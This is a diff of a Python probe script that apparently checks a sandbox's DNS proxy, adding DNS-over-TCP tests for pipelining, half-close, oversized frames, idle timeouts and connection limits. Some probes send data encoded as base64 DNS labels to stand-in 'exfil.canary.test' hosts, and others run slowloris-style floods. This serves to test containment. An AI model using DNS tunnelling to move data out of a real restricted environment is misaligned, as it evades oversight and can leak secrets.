@@ -46,17 +46,101 @@ def status(text):
     return text.split("\r\n", 1)[0]
 
 
-def dns(qtype, name="upstream.test", server=("192.0.2.53", 53)):
-    q = struct.pack(">HHHHHH", 0x1234, 0x0100, 1, 0, 0, 0)
+def dns_query(qtype, name, ident=0x1234):
+    q = struct.pack(">HHHHHH", ident, 0x0100, 1, 0, 0, 0)
     q += b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\0"
-    q += struct.pack(">HH", qtype, 1)
+    return q + struct.pack(">HH", qtype, 1)
+
+
+def dns_parse(q, a):
+    ident, flags, qd, an = struct.unpack(">HHHH", a[:8])
+    addrs = [socket.inet_ntoa(a[i + 12:i + 16]) for i in range(len(q), len(a), 16)]
+    return {"id": ident, "rcode": flags & 0xf, "an": an, "addrs": addrs}
+
+
+def dns(qtype, name="upstream.test", server=("192.0.2.53", 53)):
+    q = dns_query(qtype, name)
     with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
         s.settimeout(10)
         s.sendto(q, server)
         a, peer = s.recvfrom(4096)
-    ident, flags, qd, an = struct.unpack(">HHHH", a[:8])
-    addrs = [socket.inet_ntoa(a[i + 12:i + 16]) for i in range(len(q), len(a), 16)]
-    return {"id": ident, "rcode": flags & 0xf, "an": an, "addrs": addrs, "peer": peer[0]}
+    return dict(dns_parse(q, a), peer=peer[0])
+
+
+def guarded(probe, *args, **kw):
+    """A probe's result, or the error that ended it (the other probes go on)."""
+    try:
+        return probe(*args, **kw)
+    except (OSError, EOFError) as e:
+        return {"error": type(e).__name__, "detail": str(e)}
+
+
+def recv_exactly(s, n):
+    got = b""
+    while len(got) < n:
+        chunk = s.recv(n - len(got))
+        if not chunk:
+            raise EOFError(f"closed after {len(got)} of {n} bytes")
+        got += chunk
+    return got
+
+
+def dns_tcp(queries, server=("192.0.2.53", 53), half_close=False):
+    """DNS over TCP (RFC 7766 framing): all queries in one write (pipelined),
+    then each answer in turn."""
+    with socket.create_connection(server, timeout=10) as s:
+        peer = s.getpeername()[0]  # (gone once both sides have closed)
+        s.sendall(b"".join(struct.pack(">H", len(q)) + q for q in queries))
+        if half_close:
+            s.shutdown(socket.SHUT_WR)
+        res = []
+        for q in queries:
+            n = struct.unpack(">H", recv_exactly(s, 2))[0]
+            res.append(dns_parse(q, recv_exactly(s, n)))
+        return {"answers": res, "peer": peer}
+
+
+def dns_tcp_refused(data, server=("192.0.2.53", 53), wait=30):
+    """What the server does with bytes that are no query it answers: how
+    long until it closed, and what it sent."""
+    start = time.time()
+    with socket.create_connection(server, timeout=wait) as s:
+        s.sendall(data)
+        try:
+            got = s.recv(100)
+            how = "closed"
+        except (ConnectionResetError, socket.timeout) as e:
+            got, how = b"", type(e).__name__
+    return {"got": got.hex(), "how": how, "took": round(time.time() - start, 1)}
+
+
+def dns_tcp_limit(n):
+    """n connections at once, each then asks one question: how many answer."""
+    conns = [socket.create_connection(("192.0.2.53", 53), timeout=5) for _ in range(n)]
+    time.sleep(0.5)  # every accept has happened
+    answered = 0
+    q = dns_query(28, "upstream.test")
+    for s in conns:
+        try:
+            s.sendall(struct.pack(">H", len(q)) + q)
+            n = struct.unpack(">H", recv_exactly(s, 2))[0]
+            answered += dns_parse(q, recv_exactly(s, n))["rcode"] == 0
+        except (OSError, EOFError):
+            pass
+    for s in conns:
+        s.close()
+    return answered
+
+
+def getaddrinfo_over_tcp(name):
+    """glibc's resolver told to use TCP only (RES_OPTIONS=use-vc, as
+    `options use-vc` in resolv.conf), in a child that has it from the start."""
+    import subprocess
+    code = ("import socket, sys; print(sorted({a[4][0] for a in socket.getaddrinfo(sys.argv[1], 443,"
+            " type=socket.SOCK_STREAM)}))")
+    r = subprocess.run([sys.executable, "-c", code, name], capture_output=True, text=True,
+                       timeout=30, env=dict(os.environ, RES_OPTIONS="use-vc"))
+    return {"rc": r.returncode, "out": r.stdout.strip(), "err": r.stderr[-500:]}
 
 
 def loopback_listeners():
@@ -105,6 +189,18 @@ def main():
     out("dns_exfil", **dns(1, "c2VjcmV0.exfil.canary.test"))
     out("allowed_by_dns", text=status(tls_get("api.test", 443, "api.test",
                                               "api.test")))
+    # DNS over TCP: the same answers, pipelined in order, a half-closed
+    # client still answered, the same names looked up, bounds kept.
+    out("dns_tcp", **guarded(dns_tcp, [dns_query(1, "upstream.test", 0x2001),
+                              dns_query(28, "upstream.test", 0x2002),
+                              dns_query(16, "upstream.test", 0x2003)]))
+    out("dns_tcp_half_closed", **guarded(dns_tcp, [dns_query(1, "upstream.test", 0x2004)],
+                                         half_close=True))
+    out("dns_tcp_exfil", **guarded(dns_tcp, [dns_query(1, "ZGF0YQ.exfil-tcp.canary.test")]))
+    out("dns_tcp_allowed", **guarded(dns_tcp, [dns_query(1, "api.test")]))
+    out("dns_tcp_getaddrinfo", **getaddrinfo_over_tcp("api.test"))
+    out("dns_tcp_oversized", **guarded(dns_tcp_refused, struct.pack(">H", 513) + b"\0" * 513))
+    out("dns_tcp_limit", answered=guarded(dns_tcp_limit, 40))
     addrs = sorted({a[4][0] for a in socket.getaddrinfo("creds.test", 443, socket.AF_INET)})
     out("rotating", addrs=addrs,
         text=status(tls_get(addrs[0], 443, "creds.test", "creds.test", "/allowed/rotating")))
@@ -141,10 +237,16 @@ def main():
             except OSError as e:
                 res["trickle"] = (type(e).__name__, time.time() - start)
 
-    t = threading.Thread(target=trickle)
-    t.start()
+    def dns_tcp_trickle():  # half a length, then nothing: cut at the idle bound
+        res["dns_tcp_idle"] = guarded(dns_tcp_refused, b"\x00")
+
+    threads = [threading.Thread(target=trickle), threading.Thread(target=dns_tcp_trickle)]
+    for t in threads:
+        t.start()
     got, how, took = plain(UP, 443, b"\x16\x03\x01", wait=30)
-    t.join()
+    for t in threads:
+        t.join()
+    out("dns_tcp_idle", **res["dns_tcp_idle"])
     out("slowloris", text=got, how=how, took=round(took, 1))
     out("trickle", text=res.get("trickle", ("", 0))[0], took=round(res.get("trickle", ("", 0))[1], 1))
 
